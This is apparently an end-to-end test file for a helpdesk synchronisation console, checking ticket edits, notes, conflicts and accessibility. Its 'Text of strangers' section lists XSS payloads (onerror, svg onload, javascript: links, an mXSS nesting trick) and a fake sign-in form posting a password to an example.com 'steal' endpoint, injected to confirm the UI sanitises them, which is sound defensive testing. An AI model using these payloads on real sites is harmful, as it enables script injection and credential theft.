import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { axe } from './support/axe.ts';
import { openTickets, until } from './support/hub.ts';
import { shoot } from './support/shoot.ts';
import { startConsole, type TestConsole } from './support/startConsole.ts';

let app: TestConsole;
let page: Page;
let tickets: string[];

beforeAll(async () => {
  app = await startConsole({ simulator: { tickets: 150, spreadDays: 20 } });
  await app.test.imported(['tickets', 'agents']);
  tickets = await openTickets(app.test, 30);
  page = await app.signIn('dispatcher');
});
afterAll(() => app?.close());

const take = (): string => tickets.shift() ?? '';
const open = async (id: string, tab = ''): Promise<void> => {
  await page.goto(`${app.home}/tickets/${id}${tab}`);
  await page.getByRole('tab', { name: 'Conversation' }).waitFor();
};
interface InPsa {
  status_id: number;
  summary: string;
  agent_id: number;
}
const inPsa = (id: string): Promise<InPsa> => app.test.control('GET', `state/tickets/${id}`);
const notesInPsa = async (id: string): Promise<string[]> =>
  (await app.test.control<{ note?: string }[]>('GET', `state/actions/${id}`)).map(({ note }) => note ?? '');
const statusNamed = async (label: string): Promise<number> =>
  Number(
    (await app.test.one<{ id: string }>(`select value_id as id from picklist_values where kind = 'status' and label = $1`, [label]))?.id,
  );
/** Chooses another status in the facts at the top. */
const choose = async (field: string, value: string): Promise<void> => {
  await page
    .getByRole('button', { name: new RegExp(`^Change ${field},`) })
    .first()
    .click();
  await page.getByRole('combobox', { name: field, exact: true }).fill(value);
  await page.getByRole('option', { name: value, exact: true }).click();
};
const writes = () => page.getByRole('region', { name: 'What is being written' });

describe('A ticket', () => {
  test('is changed: it waits, is delivered, and stands in the helpdesk', async () => {
    const id = take();
    await open(id);
    await choose('Status', 'With User');
    await writes().getByText('Waiting to be sent').waitFor();
    await page.getByRole('button', { name: 'Change Status, now With User' }).waitFor();
    await writes().getByText('Delivered').waitFor();
    expect((await inPsa(id)).status_id).toBe(await statusNamed('With User'));
  });

  test('is left as it is where the change is undone before it leaves', async () => {
    const id = take();
    const before = await inPsa(id);
    await open(id);
    await choose('Status', 'Scheduled');
    await page.getByRole('button', { name: /^Undo \(\d s\)$/ }).click();
    await writes().waitFor({ state: 'detached' });
    const command = await app.test.one<{ state: string }>(
      `select state from commands where external_id = $1 order by number desc limit 1`,
      [id],
    );
    expect(command?.state).toBe('discarded');
    expect((await inPsa(id)).status_id).toBe(before.status_id);
  });

  test('says why a change is refused, and takes the correction', async () => {
    const id = take();
    await app.test.control('PATCH', 'settings', { closureNoteRequired: true });
    await open(id);
    await choose('Status', 'Closed');
    await writes()
      .getByText(/Refused: .*Closure Note/)
      .waitFor();
    await axe(page);
    await shoot(page, 'ticket-refused');
    await writes().getByRole('button', { name: 'Retry' }).click();
    await until('another attempt', async () => {
      const tried = await app.test.one<{ n: number }>(
        `select count(*)::int as n from delivery_attempts a join commands c on c.id = a.command_id where c.external_id = $1`,
        [id],
      );
      return tried?.n === 2;
    });
    await writes()
      .getByText(/Refused: .*Closure Note/)
      .waitFor();
    await writes().getByRole('textbox', { name: 'Closure note' }).fill('Replaced the toner.');
    await writes().getByRole('button', { name: 'Correct and send again' }).click();
    await writes().getByText('Delivered').waitFor();
    expect((await inPsa(id)).status_id).toBe(9);
    await app.test.control('PATCH', 'settings', { closureNoteRequired: false });
  });

  test('shows both values where somebody changed the same field, and lets a person decide', async () => {
    const id = take();
    await open(id, '/fields');
    await page.getByRole('button', { name: /^Change Title,/ }).click();
    await page.getByRole('textbox', { name: 'Title' }).fill('What we say');
    // The helpdesk tells nobody about this edit: the mirror still shows what was before.
    await app.test.control('POST', 'edit/tickets', { id: Number(id), summary: 'What they say', silent: true });
    await page.getByRole('button', { name: 'Save' }).click();
    const conflict = writes().getByLabel('Title');
    await conflict.getByText('What they say').waitFor();
    await conflict.getByText('What we say').waitFor();
    await writes().getByRole('button', { name: 'Send mine' }).click();
    await writes().getByText('Delivered').waitFor();
    expect((await inPsa(id)).summary).toBe('What we say');
  });

  test('takes a note, which stands in the conversation at once and in the helpdesk soon', async () => {
    const id = take();
    await open(id);
    const form = page.getByRole('form', { name: 'Write to this ticket' });
    await form.getByRole('button', { name: 'Add note' }).click();
    await form.getByText('Write something first.').waitFor();
    await form.getByRole('textbox', { name: 'Text' }).fill('Called the customer back.');
    await page.keyboard.press('Control+Enter');
    const talk = page.getByRole('region', { name: 'Conversation' });
    await talk.getByText('being sent').waitFor();
    await talk.getByText('Called the customer back.').waitFor();
    expect(await form.getByRole('textbox', { name: 'Text' }).inputValue()).toBe('');
    await until('the note in the helpdesk', async () => (await notesInPsa(id)).includes('Called the customer back.'));
    await talk.getByText('being sent').waitFor({ state: 'detached' });
    await talk.getByRole('article').filter({ hasText: 'Called the customer back.' }).filter({ hasText: 'Private' }).waitFor();
    expect(await talk.getByText('Called the customer back.').count()).toBe(1);
  });

  test('takes time in minutes', async () => {
    const id = take();
    await open(id);
    const form = page.getByRole('form', { name: 'Write to this ticket' });
    await form.getByText('Time', { exact: true }).click();
    await form.getByRole('textbox', { name: 'Text' }).fill('Checked the cables.');
    await form.getByRole('button', { name: 'Add time' }).click();
    await form.getByText('Say how many minutes').waitFor();
    await form.getByRole('textbox', { name: 'Minutes' }).fill('45');
    await form.getByRole('button', { name: 'Add time' }).click();
    await until('the time in the helpdesk', async () => {
      const actions = await app.test.control<{ note?: string; timetaken?: number }[]>('GET', `state/actions/${id}`);
      return actions.some(({ note, timetaken }) => note === 'Checked the cables.' && timetaken === 0.75);
    });
  });

  test('loses nothing that was typed: not by leaving the page, not by a session that has ended', async () => {
    const id = take();
    const other = await app.signIn('agent', `/tickets/${id}`);
    const box = other.getByRole('form', { name: 'Write to this ticket' }).getByRole('textbox', { name: 'Text' });
    await box.fill('Half a thought');
    await other.goto(`${app.home}/tickets`);
    await other.goto(`${app.home}/tickets/${id}`);
    expect(await box.inputValue()).toBe('Half a thought');
    // Theirs is the newest. Whatever the page asks next finds it ended: the note here, or a refresh before it, and then the dialog is over the button.
    await app.test.db.database.asSystem((q) =>
      q.query(`delete from auth.session where id = (select id from auth.session order by "createdAt" desc limit 1)`),
    );
    void other
      .getByRole('button', { name: 'Add note' })
      .click()
      .catch(() => undefined);
    await other.getByRole('dialog', { name: 'Sign in again' }).waitFor();
    await until('the draft', async () =>
      other.evaluate(() => Object.values(localStorage).some((value) => String(value).includes('Half a thought'))),
    );
    await other.context().close();
  });
});

describe('Why', () => {
  test('shows callback, run, change and command of one edit in that order, live', async () => {
    const id = take();
    await open(id, '/why');
    await page.getByText('Oldest first').click();
    await app.test.control('POST', 'edit/tickets', { id: Number(id), summary: 'Edited over there', by: { agentId: 2 } });
    const line = page.getByRole('region', { name: 'Everything that touched this ticket' });
    await line.getByText('Edited over there').waitFor();
    await page.getByRole('tab', { name: 'Fields' }).click();
    await page.getByRole('button', { name: /^Change Title,/ }).click();
    await page.getByRole('textbox', { name: 'Title' }).fill('And back over here');
    await page.getByRole('button', { name: 'Save' }).click();
    await writes().getByText('Delivered').waitFor();
    await page.getByRole('tab', { name: 'Why' }).click();
    await page.getByText('Oldest first').click();
    await line.getByText('And back over here').waitFor();
    const items = await line.getByRole('listitem').allInnerTexts();
    const edit = items.findIndex((text) => text.startsWith('Callback'));
    const kinds = items.slice(edit).map((text) => text.split('\n')[0]);
    const order = ['Callback', 'Sync run', 'Change', 'Command'].map((kind) => kinds.indexOf(kind));
    expect(order).toEqual(order.toSorted((a, b) => a - b));
    expect(order).not.toContain(-1);
    const ours = items.findLastIndex((text) => text.startsWith('Change') && text.includes('And back over here'));
    expect(items[ours]).toContain('by Deskbridge');
    expect(ours).toBeGreaterThan(items.findIndex((text) => text.startsWith('Command')));
    await axe(page);
    await shoot(page, 'ticket-why');
    await line.getByRole('link', { name: 'Open' }).first().click();
    await page.waitForURL(/\/helpdesk\/(callback-log|runs)\//);
  });

  test('explains a ticket that is not here step by step, and fetches it', async () => {
    // The helpdesk's owner logs a ticket that nobody is told about, so that only asking for it brings it.
    const made = await app.test.control<{ id: number }>('POST', 'edit/tickets', { summary: 'Nobody was told', silent: true });
    await page.goto(`${app.home}/tickets/${made.id}`);
    await page.getByRole('heading', { level: 1, name: `Ticket ${made.id} is not here` }).waitFor();
    await page.getByText('No callback has come for').waitFor();
    await axe(page);
    await shoot(page, 'ticket-missing');
    await page.getByRole('button', { name: 'Fetch this ticket now' }).click();
    await page.getByRole('heading', { level: 1, name: 'Nobody was told' }).waitFor();
    await page.goto(`${app.home}/tickets/987654`);
    await page.getByRole('button', { name: 'Fetch this ticket now' }).click();
    await page.getByText('the helpdesk had no such ticket', { exact: false }).first().waitFor();
    expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe('Ticket 987654 is not here');
  });
});

const attacks = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '<svg onload="window.pwned=1"></svg>',
  '<a href="javascript:window.pwned=1">press me</a>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<form action="https://example.com/steal"><input name="password"><button>Sign in again</button></form>',
  '<style>body{display:none}</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror="window.pwned=1">',
  '<details open ontoggle="window.pwned=1">x</details>',
  '"><img src=x onerror="window.pwned=1">',
];

describe('Text of strangers', () => {
  test('never runs: not in titles, names or notes, in the list, beside it, or on the ticket', async () => {
    const id = take();
    const before = await app.test.all<{ id: string }>(`select external_id as id from tickets`);
    await app.test.control('POST', 'edit/tickets', {
      id: Number(id),
      summary: `Look ${attacks[0]}`,
      details: attacks.join(' '),
      users_name: `Eve ${attacks[2]}`,
    });
    for (const [index, html] of attacks.entries())
      await app.test.control('POST', `edit/tickets/${id}/note`, {
        text: `Attack ${index}: ${html}`,
        html: `<p>Attack ${index}</p>${html}`,
        by: { agentId: 2 },
      });
    await app.test.control('POST', `edit/tickets/${id}/note`, {
      text: 'With a picture',
      html: '<p>With a picture <img src="https://pictures.example/pixel.gif" alt="Logo"></p>',
      by: { agentId: 2 },
    });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await open(id);
    const talk = page.getByRole('region', { name: 'Conversation' });
    await until(
      'all notes',
      async () =>
        (await talk.getByText('With a picture').count()) > 0 && (await talk.getByText(`Attack ${attacks.length - 1}`).count()) > 0,
    );
    await talk.getByRole('link', { name: 'press me' }).count();
    for (const tab of ['Fields', 'Why', 'Conversation']) await page.getByRole('tab', { name: tab }).click();
    expect(
      await page
        .locator('#content')
        .locator('script, iframe, form[action], svg[onload], [onerror], [onload], a[href^="javascript"]')
        .count(),
    ).toBe(0);
    expect(await page.locator('#content input[name="password"]').count()).toBe(0);
    await talk.getByText('One picture of another server is not shown.').waitFor();
    await page.goto(`${app.home}/tickets?preview=${id}`);
    await page
      .getByRole('complementary')
      .getByText(/Attack \d/)
      .first()
      .waitFor();
    await page.getByRole('grid').getByText('<img src=x onerror').first().waitFor();
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(asked.filter((url) => !url.startsWith(app.url))).toEqual([]);
    expect(before.length).toBeGreaterThan(0);
  });
});

describe('The look', () => {
  test('of a ticket is fit for everybody, on each of its tabs, in both schemes', async () => {
    const id = take();
    await app.test.control('POST', `edit/tickets/${id}/note`, {
      text: 'I have tried that already, it still does not print.',
      by: { userId: 1 },
    });
    await app.test.control('POST', `edit/tickets/${id}/note`, {
      text: 'Looks like the driver. Ask second line?',
      private: true,
      hours: 0.25,
      by: { agentId: 2 },
    });
    await open(id);
    await page.getByText('Looks like the driver').first().waitFor();
    await axe(page);
    await shoot(page, 'ticket');
    await page.getByRole('tab', { name: 'Fields' }).click();
    await page.getByRole('button', { name: 'Show record' }).click();
    await axe(page);
    await shoot(page, 'ticket-fields');
    expect(await page.getByRole('region', { name: 'The helpdesk’s own record' }).innerText()).toContain('"id"');
  });
});
